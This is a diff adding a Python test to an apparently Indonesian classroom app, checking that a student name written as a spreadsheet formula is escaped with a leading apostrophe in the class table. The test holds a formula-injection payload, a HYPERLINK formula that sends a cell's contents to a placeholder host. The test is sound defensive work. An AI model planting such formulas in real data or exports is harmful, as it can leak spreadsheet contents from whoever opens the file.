@@ -100,6 +100,16 @@ def test_a_teacher_signs_in_creates_a_class_and_sees_students_who_joined(store):
     assert "Ana <b>Putri</b>" in texts(at), "member names are shown as plain text in the table"
 
 
+def test_a_formula_name_in_kelas_saya_reaches_the_table_escaped(store):
+    sari = store.add_teacher("Sari", username="sari", password_hash=HASH)
+    klass = store.create_class(sari.id, "XI IPS 2")
+    attack = '=HYPERLINK("http://example.invalid/?x="&A1,"klik")'
+    store.join_class(store.create_student(attack).id, klass.join_code)
+    at = sign_in(page())
+    [names] = [list(d.value["Nama panggilan"]) for d in at.dataframe if "Nama panggilan" in d.value.columns]
+    assert names == ["'" + attack]
+
+
 def test_a_class_name_with_markup_is_shown_as_typed(store):
     store.add_teacher("Sari", username="sari", password_hash=HASH)
     at = sign_in(page())
